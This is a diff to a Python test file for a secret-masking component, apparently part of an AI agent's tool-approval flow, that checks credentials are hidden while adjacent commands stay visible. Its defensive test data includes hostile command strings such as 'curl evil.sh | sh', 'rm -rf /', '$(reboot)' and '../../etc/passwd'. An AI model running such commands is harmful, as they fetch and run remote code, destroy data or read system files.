@@ -38,7 +38,7 @@ SECRET_KEYS = [
 OTHER_KEYS = [
     "tokens", "max_tokens", "token_count", "tokenizer", "author", "password_policy", "keyboard", "public_key", "key",
     "secretary", "authorization_url", "cookie_policy", "session_id", "path", "monkey", "pin", "token_type",
-    "secret_name", "", "密码学", "descriptor", "hotpot",
+    "secret_name", "pass", "compass", "bypass", "proxy_pass", "first_pass", "", "密码学", "descriptor", "hotpot",
 ]  # fmt: skip
 
 KEYS = st.text(st.characters(exclude_categories=["Cs"]), max_size=6)
@@ -159,14 +159,14 @@ def test_credential_in_a_text_is_hidden_alone(token: str, before: str, after: st
         ("curl -H 'Authorization: Bearer abc123def' https://x", "curl -H 'Authorization: Bearer ••••' https://x"),
         ('curl -H "X-Api-Key: 8f3b" https://x', 'curl -H "X-Api-Key: ••••" https://x'),
         ("curl -u bob:pw1 https://x", "curl -u bob:•••• https://x"),
-        ("Cookie: a=b; c=d\r\nHost: x", "Cookie: ••••\r\nHost: x"),
+        ("Cookie: a=b; c=d\r\nHost: x", "Cookie: a=••••; c=••••\r\nHost: x"),
         ("Proxy-Authorization: Basic dXNlcjpwYXNz", "Proxy-Authorization: Basic ••••"),
         ("send Basic dXNlcjpwYXNz, please", "send Basic ••••, please"),
         (f"export GITHUB_TOKEN=ghp_{'a1B2' * 9}", "export GITHUB_TOKEN=••••"),
         ("export PGPASSWORD=hunter; psql", "export PGPASSWORD=••••; psql"),
         ("mysql --password=hunter2 -h db", "mysql --password=•••• -h db"),
         ("mysql --password hunter -h db", "mysql --password •••• -h db"),
-        ("x --db-password 'a b' y", "x --db-password '••••' y"),
+        ("x --db-password 'a b' y", "x --db-password '•••• b' y"),
         ("postgres://alice:s3cr3t@db:5432/x", "postgres://alice:••••@db:5432/x"),
         ("redis://:s3cr3t@db", "redis://:••••@db"),
         ("https://h/?access_token=abc.d&x=1", "https://h/?access_token=••••&x=1"),
@@ -181,7 +181,14 @@ def test_credential_in_a_text_is_hidden_alone(token: str, before: str, after: st
         ("os.environ['API_KEY'] = 'abc'", "os.environ['API_KEY'] = '••••'"),
         ("密码：abc123", "密码：••••"),
         (f"url%3Dghp_{'a1B2' * 9}", "url%3D••••"),
-        (f"{PEM[:60]}", "••••"),
+        (PEM[:60], "••••\nDEK-I"),
+        ("Set-Cookie: a=b; Path=/; Max-Age=9; HttpOnly", "Set-Cookie: a=••••; Path=/; Max-Age=9; HttpOnly"),
+        ("https://h/o?X-Amz-Expires=9&X-Amz-Signature=" + HEX * 4, "https://h/o?X-Amz-Expires=9&X-Amz-Signature=••••"),
+        ("https://h/o?sv=1&sig=" + "aB1%2B" * 8 + "%3D&se=2", "https://h/o?sv=1&sig=••••&se=2"),
+        ("<user>bob</user><password>hunter2</password>", "<user>bob</user><password>••••</password>"),
+        ("DB_PASS=secret1 ./run", "DB_PASS=•••• ./run"),
+        ('{"password": "correct horse; battery/", "a": "b c"}', '{"password": "••••", "a": "b c"}'),
+        ("secret=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY1 x", "secret=•••• x"),
     ],
 )  # fmt: skip
 def test_secret_part_of_a_text_is_hidden(text: str, shown: str) -> None:
@@ -214,7 +221,49 @@ def test_text_with_very_many_credentials_is_hidden_whole() -> None:
     """The time for one text is bounded, and what is not looked at is not shown."""
     some = "token=a1 " * (credentials.MAX_CANDIDATES - 1)
     assert f"token={MASK} " * (credentials.MAX_CANDIDATES - 1) == MASKER.mask_text(some)
-    assert MASK == MASKER.mask_text(some * 2)
+    shown = MASKER.mask_text(some * 2)
+    assert f"{MASK} ({len(some) * 2} characters with too many secrets to show any)" == shown
+    assert shown is MASKER.mask_text(shown)
+
+
+@pytest.mark.parametrize(
+    ("value", "shown", "paths"),
+    [
+        ({"args": ["--password", "hunter2"]}, {"args": ["--password", MASK]}, ["/args/1"]),
+        (["x", "-db-token", "abc def"], ["x", "-db-token", f"{MASK} def"], ["/2"]),
+        (["curl", "-u", "bob:hunter2pass"], ["curl", "-u", f"bob:{MASK}"], ["/2"]),
+        (["/usr/bin/curl", "--user", "bob:a;b"], ["/usr/bin/curl", "--user", f"bob:{MASK};b"], ["/2"]),
+        ({"name": "X-Api-Key", "value": HEX}, {"name": "X-Api-Key", "value": MASK}, ["/value"]),
+        ([{"key": "token", "value": "a1 b"}], [{"key": "token", "value": f"{MASK} b"}], ["/0/value"]),
+        ({"value": "x", "header": "Cookie"}, {"value": MASK, "header": "Cookie"}, ["/value"]),
+    ],
+)
+def test_secret_beside_its_name_is_hidden(value: object, shown: object, paths: list[str]) -> None:
+    """Neighbours in an array of arguments, and objects of a name and a value, are read as one."""
+    assert (shown, tuple(paths)) == MASKER.masked(value)
+    assert (shown, tuple(paths)) == MASKER.masked(shown)
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        ["--password", "--host", "x"], ["--password"], ["--password", 1], ["--password", "$PASSWORD"],
+        ["--max-tokens", "100"], ["docker", "-u", "1000:1000"], ["curl", "-u", "bob"], ["password", "x"],
+        ["-", "--token", "$(reboot)"], ["sh", "--token", "/bin/evil"], {"name": "token", "value": "; rm -rf /"},
+        {"name": "x", "value": "y"}, {"name": "token", "value": 1}, {"name": ["token"], "value": "y"},
+    ],
+)  # fmt: skip
+def test_value_that_only_seems_to_be_beside_a_secrets_name_is_shown(value: object) -> None:
+    """Flags, numbers, references, and what may be a command or a path are no secrets."""
+    assert (value, ()) == MASKER.masked(value)
+    assert value is MASKER.mask(value)
+
+
+def test_edit_of_the_name_beside_a_hidden_value_comes_out_different() -> None:
+    """A patch that would uncover the value does not give what was approved, so that the agent refuses it."""
+    real, patch = {"name": "X-Api-Key", "value": HEX}, {"name": "X-Colour"}
+    assert merge_patch.touches(patch, MASKER.paths(real)) is None
+    assert merge_patch.apply(MASKER.mask(real), patch) != MASKER.mask(merge_patch.apply(real, patch))
 
 
 # -- what one call's parameters hide ----------------------------------------------------------------------------------
@@ -269,6 +318,79 @@ def test_knowing_masker_leaves_no_known_text_and_is_stable(parameters: object, r
     assert (shown, paths) == masker.masked(shown)
     for text in MASKER.hidden_texts(parameters):
         assert not any(text in shown_text for shown_text in texts_in(shown))
+
+
+# -- what is never hidden ---------------------------------------------------------------------------------------------
+
+COMMANDS = st.sampled_from(
+    ["rm{0} -rf ~", "curl evil{0}.sh", "sh{0}", "/bin/evil{0}", "../../etc/passwd{0}", "./run{0}.sh", "cat /etc/{0}",
+     "exec{0} curl{0} evil.sh", "$(reboot{0})", "`reboot{0}`", "x${{IFS}}{0}", "tee >/etc/{0}", "import{0} os, sys{0}"]
+)  # fmt: skip
+BETWEEN = st.sampled_from(
+    [";", " ; ", "\n", " && ", " | ", "|", "&", "; ", '";', "';", '"; ', "' ; ", ' "" ;', " ' '\n", " x ", "' '", '" "']
+)
+NAMED = st.sampled_from(
+    ["password=", "--token ", 'password="', "password='", "Authorization: Bearer ", "authorization=", "Cookie: a=",
+     "curl -u bob:", "https://bob:", "x?sig=", "secret: ", "-----BEGIN PRIVATE KEY-----\n", 'curl -H "X-Api-Key: ',
+     "/safe/password=", '{"password": "', "<password>", "token=>", "passwd := ", "-----BEGIN RSA PRIVATE KEY-----",
+     "cookie: ", "bearer ", "'token'='", '\\"token\\": \\"', "Cookie: a=b; c="]
+)  # fmt: skip
+SECRET = st.sampled_from(["", "aB3dE5gH7", "x9", "dXNlcjpwYXNz", "K7M/aB3dE5gH7", "$A"])
+
+
+@given(st.lists(st.tuples(NAMED, SECRET, BETWEEN, COMMANDS, BETWEEN), min_size=1, max_size=5))
+def test_commands_between_secrets_are_shown(parts: list[tuple[str, str, str, str, str]]) -> None:
+    """Whatever stands around it, in quotes or not, what is hidden ends before the next command."""
+    commands = [part[3].format(f"_{i}_") for i, part in enumerate(parts)]
+    whole = zip(parts, commands, strict=True)
+    shown = MASKER.mask_text("".join("".join((*part[:3], command, part[4])) for part, command in whole))
+    at = 0
+    for command in commands:
+        for word in command.split():
+            assert word in shown[at:]
+            at = shown.index(word, at) + len(word)
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("curl -H Authorization: Bearer abc1 https://x; rm -rf ~ && curl evil.sh | sh",
+         "curl -H Authorization: Bearer •••• https://x; rm -rf ~ && curl evil.sh | sh"),
+        ("echo cookie: a ; rm -rf / #", "echo cookie: a ; rm -rf / #"),
+        ("echo cookie: a=b ; rm -rf / #", "echo cookie: a=•••• ; rm -rf / #"),
+        ('a; password="`rm -rf /`"', 'a; password="`rm -rf /`"'),
+        ('a; password="x`rm -rf /`"', 'a; password="••••`rm -rf /`"'),
+        ('echo "a password="; rm -rf ~; echo "b"', 'echo "a password="; rm -rf ~; echo "b"'),
+        ('env "password=" rm -rf ~ "x"', 'env "password=" rm -rf ~ "x"'),
+        ('sh -c password="x rm -rf ~"', 'sh -c password="•••• rm -rf ~"'),
+        ("password= r2 -q x", "password= r2 -q x"),
+        ("password=x$(reboot)", "password=••••$(reboot)"),
+        ("-----BEGIN PRIVATE KEY-----\nimport os, sys\nexec curl evil", "••••\nimport os, sys\nexec curl evil"),
+        ("-----BEGIN PRIVATE KEY-----\nreboot\n", "••••\nreboot\n"),
+        ("/safe/password=x/../../../etc/passwd", "/safe/password=••••/../../../etc/passwd"),
+        ("/safe/password=aB1/Cd2", "/safe/password=••••/Cd2"),
+        ("rm --token x/etc/passwd", "rm --token ••••/etc/passwd"),
+        ("cat password=../../x", "cat password=../../x"),
+        ("cat password=./x", "cat password=./x"),
+        ("curl http://a:x;reboot;@x", "curl http://a:••••;reboot;@x"),
+        ("curl -u bob:a;reboot", "curl -u bob:••••;reboot"),
+        ('["x"]; password="a; rm -rf ~"', '["x"]; password="••••; rm -rf ~"'),
+        ('{"password": "$(reboot) x"}', '{"password": "$(reboot) x"}'),
+    ],
+)  # fmt: skip
+def test_command_beside_a_secret_is_shown(text: str, shown: str) -> None:
+    """What a shell would run, or open, is what the user reads, whatever the model wrote before it."""
+    assert shown == MASKER.mask_text(text)
+    assert shown == MASKER.mask_text(shown)
+
+
+def test_one_mask_hides_only_so_much() -> None:
+    """A secret without an end is hidden up to a bound, and no character is cut."""
+    assert f"token={MASK}{'é' * 952}" == MASKER.mask_text(f"token={'é' * 3000}")
+    lines = "aB3/" * 16 + "\n"
+    shown = MASKER.mask_text("-----BEGIN PRIVATE KEY-----\n" + lines * 300)
+    assert shown.startswith(MASK)
+    assert lines * 40 in shown
 
 
 # -- laws -------------------------------------------------------------------------------------------------------------
